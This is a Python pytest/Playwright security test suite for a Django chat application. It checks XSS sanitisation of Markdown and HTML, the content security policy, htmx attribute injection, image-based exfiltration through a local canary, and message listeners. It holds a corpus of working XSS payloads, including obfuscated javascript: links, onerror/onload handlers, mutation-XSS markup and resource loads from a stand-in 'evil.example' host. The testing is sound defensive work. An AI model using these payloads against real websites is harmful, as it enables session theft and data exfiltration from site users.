"""What foreign text may never do in a real browser: S7, S8, S9 and S35."""

from __future__ import annotations

import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import get_resolver
from playwright.sync_api import Page

from channels_app.web.programs import is_for_programs
from tests.requirements.test_access import routes
from tests.support.browser import Canary, Seen, send, wait_for_answer
from tests.support.browser_fixtures import *  # noqa: F403
from tests.support.browser_fixtures import Site
from tests.support.browser_seed import BRIEF, RUN, TASK
from tests.support.processes import wait_until

Opener = Callable[..., tuple[Page, Seen]]

CORPUS = [
    "<script>pwned=1</script>",
    "<script nonce>pwned=1</script>",
    '<script src="/static/js/base.js"></script>',
    "<img src=x onerror=pwned=1>",
    "<IMG SRC=x OnErRoR=pwned=1 //",
    "<svg onload=pwned=1><script>pwned=1</script></svg>",
    '<svg><animate onbegin="pwned=1" attributeName=x dur=1s></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style>",
    "<details open ontoggle=pwned=1>x</details>",
    "<body onload=pwned=1><input autofocus onfocus=pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object data="javascript:pwned=1"></object><embed src="javascript:pwned=1">',
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<base href="//evil.example/"><form action="//evil.example"><button>x</button>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "[link](javascript:pwned=1)",
    "[link](JaVaScRiPt:pwned=1)",
    "[link](java&#x0A;script:pwned=1)",
    "[link](&#106;avascript:pwned=1)",
    "[link](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "[link](vbscript:pwned=1)",
    "<javascript:pwned=1>",
    '[a](https://example.org/"onmouseover="pwned=1)',
    "![x](javascript:pwned=1)",
    '![x](x"onerror="pwned=1)',
    "![`onerror=pwned=1`](https://example.invalid/a.png 'a\"onerror=pwned=1')",
    "[![x](https://example.invalid/i.png)](javascript:pwned=1)",
    "[ref]: javascript:pwned=1\n\n[ref]",
    '```html"onload="pwned=1\n<script>pwned=1</script>\n```',
    "```<img/src=x/onerror=pwned=1>\nx\n```",
    "`<img src=x onerror=pwned=1>`",
    "| <img src=x onerror=pwned=1> | b |\n|:-:|--:|\n| <script>pwned=1</script> | x |",
    "- [x] <img src=x onerror=pwned=1>\n- [ ] [y](javascript:pwned=1)",
    "# <img src=x onerror=pwned=1>\n\n> <svg/onload=pwned=1>",
    "$\\href{javascript:pwned=1}{x}$ $$\\unicode{<img src=x onerror=pwned=1>}$$",
    '```mermaid\ngraph TD; A["<img src=x onerror=pwned=1>"]\n```',
    '<div hx-get="/admin/" hx-trigger="load" hx-on::load="pwned=1">x</div>',
    '<div data-hx-get="/admin/" data-hx-trigger="load">x</div>',
    "<a id=chat name=composer class=button style=position:fixed>clobber</a>",
    "</div></article><script>pwned=1</script>",
    "\u2028<scr\u0000ipt>pwned=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<template><script>pwned=1</script></template>",
    "<xmp><img src=x onerror=pwned=1></xmp><plaintext><script>pwned=1</script>",
]
NAME = "<img src=x onerror=pwned=1><script>pwned=1</script>"
FIND_DANGEROUS = """() => {
  const found = [];
  const tags = "script, svg:not(.icon, .avatar), iframe, object, embed, style, link, "
    + "meta, base, form, input, img, math, template, video, audio";
  for (const box of document.querySelectorAll(".text")) {
    for (const one of box.querySelectorAll(tags)) found.push(one.outerHTML);
    for (const one of box.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        const isBad = /^(on|hx-|data-hx|style$|id$|name$|src)/i.test(name)
          || /^\\s*(javascript|data|vbscript):/i.test(value);
        if (isBad) found.push(one.outerHTML);
      }
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def site_texts() -> dict[str, str]:
    """Give everything that people may name freely a hostile name."""
    return {
        "persona_name": NAME,
        "title": NAME,
        "file_name": "<img src=x onerror=pwned=1>",
        "host_name": NAME,
        "model_label": f"{NAME} {{{{7*7}}}}",
    }


@pytest.fixture
def canary() -> Iterator[Canary]:
    listening = Canary()
    yield listening
    listening.close()


NO_PAGE = {
    "favicon": "a picture",
    "money_own_csv": "a file to save",
    "money_own_jsonl": "a file to save",
    "money_all_csv": "a file to save",
    "money_all_jsonl": "a file to save",
    "mfa_download_recovery_codes": "a file to save",
    "jsi18n": "a script",
    "autocomplete": "data for a script",
    "openapi": "data for programs",
    "google_login": "leads to Google",
    "google_callback": "leads from Google",
}
"""Routes that show nothing in a browser, each with the reason."""
MORE_PAGES = ["/?persona=inara", "/?persona=tina", "/nowhere/"]
PAGE_STATUSES = {200, 400, 401, 403, 404, 405, 410}


def all_pages(page: Page, site: Site) -> list[str]:
    """Return the address of every page, with ids that alice (an administrator) sees."""
    page.goto(f"{site.url}/?persona=inara")
    chat = str(page.locator(".chat-link").last.get_attribute("href"))
    page.goto(site.url + chat)
    answer = str(page.locator(".answer").last.get_attribute("data-id"))
    values = {
        "id": chat.removeprefix("/c/"),
        "message_id": answer,
        "name": "inara",
        "file_name": "SOUL.md",
        "username": "bob",
        "verb": "promote",
        "scope": "shared",
        "role": "chat",
        "token": "unknown",
        "key": "unknown",
        "uidb36": "1",
        "app_label": "routing",
        **dict.fromkeys(
            (
                "number",
                "host_id",
                "model_id",
                "session_id",
                "invite_id",
                "budget_id",
                "request_id",
            ),
            "1",
        ),
        **dict.fromkeys(("object_id", "content_type_id"), "1"),
        **dict.fromkeys(("room_id", "identity_id", "webhook_id", "note_id"), "1"),
        **dict.fromkeys(("reply_id", "token_id", "delivery_id"), answer),
        **{"task_id": TASK, "brief_id": BRIEF, "proposal_id": BRIEF},
        "run_id": RUN,
    }
    return MORE_PAGES + [
        address_of(route, values)
        for route, pattern in routes(get_resolver().url_patterns)
        if pattern.name not in NO_PAGE
        and not is_for_programs(f"/{route}")
        # The admin's nameless routes only lead to others.
        and (pattern.name or not route.startswith("admin/"))
    ]


def address_of(route: str, values: dict[str, str]) -> str:
    """Fill a route; fails for a part that ``values`` does not know yet."""
    route = re.sub(r"\(\?P<(\w+)>[^)]*\)", r"<\1>", route)
    address = re.sub(r"<(?:\w+:)?(\w+)>", lambda part: values[part[1]], route)
    address = "/" + re.sub(r"[\^$]", "", address)
    assert not set("<>()?") & set(address), f"{route}: this test cannot fill it"
    return address


def settle(page: Page) -> None:
    """Wait until the page has drawn itself and what it reported has arrived."""
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => done(1)))")


def test_s07_no_text_in_a_message_becomes_code(site: Site, open_page: Opener) -> None:
    page, seen = open_page()
    page.goto(f"{site.url}/?persona=tina")
    texts = [text.replace("\0", "") for text in CORPUS]  # a NUL is refused anyway
    send(page, "\n\n".join(texts))
    wait_for_answer(page)
    assert page.evaluate(FIND_DANGEROUS) == []
    page.reload()
    page.wait_for_selector(".answer[data-state=complete] .text:not([data-source])")
    assert page.evaluate(FIND_DANGEROUS) == []
    for link in page.locator(".text a[href]").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
        assert re.match(r"https?:|mailto:", link.get_attribute("href") or "")
    assert page.evaluate("typeof pwned") == "undefined"
    seen.assert_clean()


@pytest.mark.parametrize("piece_characters", [1, 5])
def test_s07_no_half_of_a_growing_text_becomes_code(
    site: Site, open_page: Opener, piece_characters: int
) -> None:
    page, seen = open_page()
    page.goto(f"{site.url}/?persona=tina")
    found = page.evaluate(
        """async ([texts, size]) => {
          const { toNodes } = await import("/static/js/markdown.js");
          const box = document.createElement("div");
          box.className = "text";
          document.body.append(box);
          const found = [];
          for (const text of texts) {
            for (let end = size; end < text.length + size; end += size) {
              box.replaceChildren(toNodes(text.slice(0, end)));
              for (const one of box.querySelectorAll("*")) {
                if (/^(script|img|svg|iframe|style|form|object)$/i.test(one.tagName)) {
                  found.push(one.outerHTML);
                }
                for (const { name, value } of one.attributes) {
                  const isBad = /^(on|hx-|data-hx|style$|id$|name$|src)/i.test(name)
                    || /^\\s*(javascript|data|vbscript):/i.test(value);
                  if (isBad) found.push(one.outerHTML);
                }
              }
            }
          }
          return found;
        }""",
        [CORPUS, piece_characters],
    )
    assert found == []
    assert page.evaluate("typeof pwned") == "undefined"
    seen.assert_clean()


@dataclass(frozen=True, slots=True)
class Visit:
    """What one page was like."""

    path: str
    status: int
    policy: str
    violations: tuple[str, ...]
    """All until then."""
    shows_markup: bool
    """A name with markup in it is to be read."""
    dangerous: int
    """Elements that were made of such a name."""
    pwned: str


@dataclass(frozen=True, slots=True)
class Walk:
    """A walk over all pages, which several tests judge."""

    visits: list[Visit]
    seen: Seen


_WALKS: dict[str, Walk] = {}
"""By the address of the site."""


def walk(site: Site, open_page: Opener) -> Walk:
    """Open every page once for all tests of a site."""
    if site.url not in _WALKS:
        page, seen = open_page()
        visits = [visit(page, seen, site, path) for path in all_pages(page, site)]
        _WALKS[site.url] = Walk(visits, seen)
    return _WALKS[site.url]


def visit(page: Page, seen: Seen, site: Site, path: str) -> Visit:
    response = page.goto(site.url + path)
    assert response is not None
    settle(page)
    return Visit(
        path=path,
        status=response.status,
        policy=response.headers["content-security-policy"],
        violations=tuple(seen.violations),
        shows_markup="<img src=x onerror" in page.locator("body").inner_text(),
        dangerous=page.locator("img[src=x], [onerror]").count(),
        pwned=page.evaluate("typeof pwned"),
    )


@pytest.mark.timeout(300)
def test_s07_names_and_titles_are_text_on_every_page(
    site: Site, open_page: Opener
) -> None:
    walked = walk(site, open_page)
    for each in walked.visits:
        assert each.dangerous == 0, each.path
        assert each.pwned == "undefined", each.path
    assert sum(each.shows_markup for each in walked.visits) >= 5
    assert walked.seen.dialogs == []
    assert walked.seen.foreign_requests == []


@pytest.mark.timeout(300)
def test_s08_no_page_violates_the_policy(site: Site, open_page: Opener) -> None:
    walked = walk(site, open_page)
    for each in walked.visits:
        assert each.status in PAGE_STATUSES, each.path
        assert each.policy.startswith(
            "default-src 'none'; script-src 'self' 'nonce-"
        ), each.path
        assert each.violations == (), each.path
    assert sum(each.status == 200 for each in walked.visits) > 60
    page, strangers = open_page(None)
    for path in ("/account/login/", "/account/password/reset/", "/nowhere/"):
        page.goto(site.url + path)
        assert strangers.violations == [], path
    walked.seen.assert_clean()
    strangers.assert_clean()


def test_s08_injected_htmx_attributes_do_nothing(site: Site, open_page: Opener) -> None:
    page, seen = open_page()
    page.goto(f"{site.url}/?persona=tina")
    page.wait_for_function("() => window.htmx !== undefined")
    page.wait_for_load_state("networkidle")
    before = len(seen.requests)
    page.evaluate(
        """() => {
          const box = document.createElement("div");
          box.innerHTML = `
            <div hx-get="/people/" hx-trigger="load">a</div>
            <div data-hx-get="/people/" data-hx-trigger="load">b</div>
            <div hx-get="/people/" hx-trigger="load" hx-nonce="guessed">c</div>
            <div hx-on:load="pwned=1" hx-on::init="pwned=1">d</div>
            <button id="trap" hx-post="/people/" hx-vals="js:{x: pwned=1}"
              hx-on:click="pwned=1">e</button>
            <a id="bait" hx-get="/people/" hx-trigger="click[pwned=1]">f</a>`;
          document.body.append(box);
          window.htmx.process(box);
          document.getElementById("trap").click();
          document.getElementById("bait").click();
        }"""
    )
    page.evaluate("() => new Promise((resolve) => setTimeout(resolve, 300))")
    assert seen.requests[before:] == []
    assert page.evaluate("typeof pwned") == "undefined"
    configuration = page.evaluate("() => window.htmx.config")
    assert configuration["mode"] == "same-origin"
    assert configuration["includeIndicatorCSS"] is False


def test_s09_pictures_in_answers_are_never_requested(
    site: Site, open_page: Opener, canary: Canary
) -> None:
    page, seen = open_page()
    page.goto(f"{site.url}/?persona=tina")
    url = f"http://127.0.0.1:{canary.port}"
    text = f"""inline ![secret]({url}/a.png) and ![s](<{url}/b.png?q=secret data>)

reference ![secret][ref] and ![ref][] and ![ref]

[ref]: {url}/c.png "title"

html <img src={url}/d.png> <img srcset="{url}/e.png 2x">
<picture><source srcset={url}/f.png></picture>
<video poster={url}/g.png></video><link rel=prefetch href={url}/h>
<svg><image href="{url}/i.png"/></svg> <div style="background:url({url}/j.png)">x</div>

[![nested]({url}/k.png)]({url}/l) <{url}/m.png> {url}/n.png

| ![cell]({url}/o.png) |
|--|
| ![cell]({url}/p.png) |

![relative](//127.0.0.1:{canary.port}/q.png) ![data](data:image/svg+xml,<svg/>)
"""
    send(page, text)
    wait_for_answer(page)
    page.reload()
    page.wait_for_selector(".answer .text:not([data-source])")
    page.wait_for_load_state("networkidle")
    assert page.locator(".text :is(img, picture, video, image, link)").count() == 0
    links = page.locator(".answer .text a.image-link")
    assert links.count() >= 5
    assert links.first.inner_text() == "secret"
    assert canary.visits == 0
    seen.assert_clean()


def test_s09_the_canary_would_have_noticed(canary: Canary) -> None:
    socket.create_connection(("127.0.0.1", canary.port)).close()
    wait_until(lambda: canary.visits == 1)


def test_s35_no_script_listens_to_messages_of_other_windows() -> None:
    scripts = Path(settings.BASE_DIR) / "static" / "js"
    files = list(scripts.rglob("*.js"))
    assert len(files) > 5
    listener = re.compile(
        r"""(?:addEventListener\(\s*["']message["']|\bonmessage\b|postMessage\()"""
    )
    for path in files:
        for line in path.read_text(encoding="utf-8").splitlines():
            if listener.search(line):
                # A WebSocket's own messages come from the server it was opened to.
                assert line.strip().startswith("socket.addEventListener"), (path, line)


def test_s35_templates_hold_no_inline_code() -> None:
    templates = Path(settings.BASE_DIR) / "templates"
    inline = re.compile(
        r"""<script(?![^>]*\bsrc=)|\son\w+\s*=\s*["']|\sstyle\s*=|hx-on|js:|javascript:"""
    )
    files = list(templates.rglob("*.html"))
    assert len(files) > 10
    for path in files:
        found = inline.search(path.read_text(encoding="utf-8"))
        assert found is None, (path, found and found[0])
